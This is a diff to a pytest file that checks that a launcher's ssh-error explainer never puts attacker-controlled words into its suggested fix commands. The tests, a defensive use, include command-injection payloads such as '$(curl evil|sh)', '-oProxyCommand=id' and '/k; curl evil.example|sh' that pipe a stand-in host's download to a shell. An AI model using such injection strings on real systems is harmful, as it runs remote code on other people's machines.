@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
 from launcher.ssh_complaint import explained
@@ -95,7 +97,7 @@ def test_the_remedy_for_a_changed_host_key_forgets_the_old_one_where_ssh_found_i
     complaint = explained(CHANGED, "", "gpu-b", [])
 
     assert complaint.remedy == (
-        "only if you know why it changed: ssh-keygen -f '/home/me/.ssh/known_hosts' -R 'gpu-b' && "
+        "only if you know why it changed: ssh-keygen -f /home/me/.ssh/known_hosts -R gpu-b && "
         "ssh -o StrictHostKeyChecking=accept-new gpu-b true"
     )
 
@@ -116,3 +118,55 @@ def test_an_overloaded_sshd_is_worth_another_try(said: str) -> None:
 @pytest.mark.parametrize("said", [said for said, _ in REASONS.values() if said])
 def test_nothing_else_is_tried_again(said: str) -> None:
     assert not explained(said, "exit code 255", "gpu-b", []).passing
+
+
+EVIL = ["$(curl evil|sh)", "`id`", "x; curl evil", "x\n", "-oProxyCommand=id", "x | id", "'", "\x1b[2J", "a&b"]
+UNPROTECTED = "Permissions 0644 for '{}' are too open.\n"
+
+
+@pytest.mark.parametrize("evil", EVIL)
+@pytest.mark.parametrize(
+    "said",
+    [
+        CHANGED.replace("'gpu-b'", "{}"),
+        CHANGED.replace("'/home/me/.ssh/known_hosts'", "{}"),
+        CHANGED.replace("/home/me/.ssh/known_hosts' -R 'gpu-b", "{}"),
+        UNPROTECTED,
+        UNPROTECTED.replace("{}", "/{}"),
+        "Permission denied ({}).\n",
+        "ssh: Could not resolve hostname {}: no\n",
+        "ssh: connect to host {} port 22: Connection refused\n",
+        "command-line: line 0: Bad configuration option: {}\n",
+        "tf-launch: the `python3` of this host is {}\n",
+        "{}",
+    ],
+)
+def test_what_ssh_said_adds_no_word_to_a_command(said: str, evil: str) -> None:
+    complaint = explained(said.replace("{}", evil), "exit code 255", "gpu-b", [])
+
+    assert complaint.reason.isprintable()
+    words = set(shlex.shlex(complaint.remedy or "", posix=True, punctuation_chars=True))
+    assert words.isdisjoint({"|", "&", "$", "curl", "id", "-oProxyCommand"})
+
+
+@pytest.mark.parametrize(
+    ("path", "command"),
+    [
+        ("/home/me/.ssh/id_rsa", "chmod 600 /home/me/.ssh/id_rsa"),
+        ("/mnt/my disk/key", "chmod 600 '/mnt/my disk/key'"),
+        ("/k; curl evil.example|sh", "chmod 600 KEY"),
+        ("-R /", "chmod 600 KEY"),
+    ],
+)
+def test_a_key_that_others_can_read_is_named_if_it_looks_like_a_file(path: str, command: str) -> None:
+    assert explained(UNPROTECTED.format(path), "", "gpu-b", []).remedy == command
+
+
+@pytest.mark.parametrize(
+    "line", ["-f /x -R $(curl${IFS}evil|sh)", "-f /x -R 'a", "-f -x -R a", "-f /x -R a -y", "-f /x"]
+)
+def test_a_host_is_forgotten_by_a_command_of_our_own(line: str) -> None:
+    complaint = explained(f"REMOTE HOST IDENTIFICATION HAS CHANGED!\nssh-keygen {line}\n", "", "me@gpu-b", [])
+
+    assert complaint.remedy is not None
+    assert "ssh-keygen -R gpu-b && ssh -o" in complaint.remedy
